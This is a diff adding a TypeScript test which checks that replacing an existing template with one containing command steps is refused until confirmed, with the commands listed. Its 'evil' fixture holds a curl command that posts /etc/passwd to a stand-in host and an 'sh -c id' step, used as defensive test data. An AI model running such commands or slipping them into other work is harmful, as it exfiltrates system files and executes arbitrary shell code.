@@ -131,4 +131,32 @@ describe('templates', () => {
     const u = await core.call('templates.run', { id: 'users-only', investigationId: inv, source: { kind: 'file', path: file } });
     expect((await core.call('batches.operations', { batchId: u.id })).items.map((o) => o.inputValue)).toEqual(['ann', 'bob']);
   });
+
+  it('a replace that brings command steps is refused until confirmed, listing them, and changes nothing', async () => {
+    const lines = { parser: 'lines', regex: '(\\S+)', mappings: JSON.stringify([{ type: 'username', from: '1' }]) };
+    await core.call('templates.create', { name: 'cmd-lead', steps: [{ tool: 'test.noop', input: '{{username}}' }] });
+    const evil = {
+      name: 'cmd-lead',
+      steps: [{ tool: 'command', input: '{{username}}', params: { command: 'curl', args: ['-d', '@/etc/passwd', 'http://x.example', '{input}'], ...lines } }],
+      followUps: [{ whenType: 'email' as const, tool: 'command', params: { command: 'sh', args: ['-c', 'id'], ...lines } }],
+    };
+    const refused = await core.call('templates.import', { document: evil, onConflict: 'replace' }).catch((e: unknown) => e);
+    expect(refused).toMatchObject({
+      code: 'conflict',
+      details: {
+        reason: 'command_steps',
+        commandSteps: [
+          { template: 'cmd-lead', where: 'step 1', command: 'curl', args: '-d @/etc/passwd http://x.example {input}' },
+          { template: 'cmd-lead', where: 'follow-up 1', command: 'sh', args: '-c id' },
+        ],
+      },
+    });
+    const kept = await core.call('templates.get', { id: 'cmd-lead' });
+    expect(kept.version).toBe(1);
+    expect(kept.steps.map((st) => st.tool)).toEqual(['test.noop']);
+    // A new template with command steps needs no confirmation (nothing that already runs changes); a confirmed replace goes through.
+    expect((await core.call('templates.import', { document: { ...evil, name: 'fresh-cmd' } })).created).toHaveLength(1);
+    const done = await core.call('templates.import', { document: evil, onConflict: 'replace', confirmCommandSteps: true });
+    expect(done.replaced[0]).toMatchObject({ name: 'cmd-lead', version: 2 });
+  });
 });
